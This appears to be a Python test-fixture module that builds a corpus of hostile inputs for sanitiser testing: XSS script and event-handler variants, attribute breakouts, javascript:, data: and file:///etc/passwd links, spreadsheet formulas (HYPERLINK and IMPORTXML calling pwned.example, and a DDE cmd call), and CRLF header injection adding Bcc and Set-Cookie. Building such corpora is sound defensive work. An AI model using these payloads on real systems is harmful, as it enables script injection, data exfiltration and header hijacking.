"""Texts that mean harm, by family: some written down in `texts`, some made here from their parts.

`RUN` stands where a text calls the trap; each calls it with its own number. What asks for something away asks `pwned.example`.
"""

import json
from collections.abc import Iterator
from itertools import product
from pathlib import Path

RUN, AWAY = "RUN", "//pwned.example/"
WRITTEN = Path(__file__).with_name("texts")
# What no column of PostgreSQL takes: it has to be met before that.
NOT_TO_BE_KEPT = "a\x00b"


def script_elements() -> Iterator[str]:
    openings = ("<script>", "<ScRiPt>", "<script\n>", "<script/x>", "<script\t type=module>", "<script\x0cdefer>")
    closings = ("</script>", "</ScRiPt >", "</script\n foo=bar>", "")
    yield from (f"{opening}{RUN}{closing}" for opening, closing in product(openings, closings))


def event_handlers() -> Iterator[str]:
    elements = (
        ("img src=x", "onerror"), ("svg", "onload"), ("body", "onload"), ("body", "onpageshow"), ("input autofocus", "onfocus"),
        ("details open", "ontoggle"), ("video src=x", "onerror"), ("audio src=x", "onerror"), ("marquee", "onstart"),
        ("iframe", "onload"), ("select autofocus", "onfocus"), ("textarea autofocus", "onfocus"), ("object data=x", "onerror"),
        ("embed src=x", "onload"), ("link rel=stylesheet href=x", "onerror"), ("style", "onload"), ("div", "onpointerover"),
        ("a href=x", "onmouseover"), ("button autofocus", "onfocus"), ("video><source", "onerror"), ("img srcset=x", "onerror"),
        ("div tabindex=1 autofocus", "onfocusin"), ("p style=animation-name:spin", "onanimationstart"),
        ("div contenteditable autofocus", "onfocus"), ("xss id=x tabindex=1 autofocus", "onfocus"),
    )  # fmt: skip
    ways = (
        "<{tag} {event}={run}>", "<{slashed}/{event}={run}//", "<{upper} {shout}={run}>", "<{tag} {event}\n=\n'{run}'>",
        '<{tag} {event}="{run}"', "<{tag} x=`>` {event}=&#x0;{run}>",
    )  # fmt: skip
    for (tag, event), way in product(elements, ways):
        names = {"tag": tag, "slashed": tag.replace(" ", "/"), "upper": tag.upper()}
        yield way.format(**names, event=event, shout=event.upper(), run=RUN)


def attribute_breakers() -> Iterator[str]:
    for quote, tail in product(
        ('"', "'", "`", " ", '">', "'>"),
        (f" autofocus onfocus={RUN} x=", f" onpointerenter={RUN} style=position:fixed;inset:0 ", f"><svg onload={RUN}>",
         f"<img src=x onerror={RUN}>", f" hx-get={AWAY}x hx-trigger=load ", f" formaction=javascript:{RUN} "),
    ):  # fmt: skip
        yield f"{quote}{tail}"


def links() -> Iterator[str]:
    schemes = (
        "javascript:", "JaVaScRiPt:", " javascript:", "\x01javascript:", "java\tscript:", "java\nscript:", "javascript\t:",
        "&#106;avascript:", "&#x6A&#x61vascript:", "javascript&colon;", "java&Tab;script:", "java&NewLine;script:",
        "\u00a0javascript:", "\ufeffjavascript:", "javascript://pwned.example/%0a", "vbscript:", "livescript:", "blob:",
        "view-source:javascript:", "jar:javascript:", "feed:javascript:", "data:text/html,<script>", "data:text/html;base64,",
        "data:image/svg+xml,<svg onload=", "filesystem:", "file:///etc/passwd#",
    )  # fmt: skip
    yield from (f"{scheme}{RUN}" for scheme in schemes)
    yield from (f"<a href='{scheme}{RUN}' autofocus>here</a>" for scheme in schemes)


def formulas() -> Iterator[str]:
    insides = (
        "1+1",
        f'HYPERLINK("http:{AWAY}","x")',
        "cmd|' /C calc'!A0",
        f'IMPORTXML("http:{AWAY}","//a")',
        'WEBSERVICE("x")',
    )
    starts = ("=", "+", "-", "@", "\t=", "\r=", " =", "\uff1d", "\n=")
    yield from (f"{start}{inside}" for start, inside in product(starts, insides))


def headers() -> Iterator[str]:
    for line_end in ("\r\n", "\n", "\r", "%0d%0a", "\u2028", "\x0b", "\x85", "\\r\\n"):
        yield f"x{line_end}Bcc: pwned@pwned.example{line_end}X-Pwned: 1"
        yield f"x{line_end}Set-Cookie: pwned=1{line_end}{line_end}<script>{RUN}</script>"


MADE = (script_elements, event_handlers, attribute_breakers, links, formulas, headers)


def families() -> dict[str, list[str]]:
    """Return the texts of every family, each once."""
    found = {make.__name__: list(make()) for make in MADE}
    for path in sorted(WRITTEN.glob("*.jsonl")):
        found.setdefault(path.stem, []).extend(json.loads(line) for line in path.read_text().splitlines())
    return found


def payloads() -> list[str]:
    """Return every text once, each calling the trap with its own number."""
    texts = dict.fromkeys(text for family in families().values() for text in family)
    return [text.replace(RUN, f"__pwned({number})") for number, text in enumerate(texts)]


def packed(texts: list[str], *, leading: int = 0) -> str:
    """Return all of them in one text that begins with the one of this number."""
    return " \u00b7 ".join(texts[leading:] + texts[:leading])
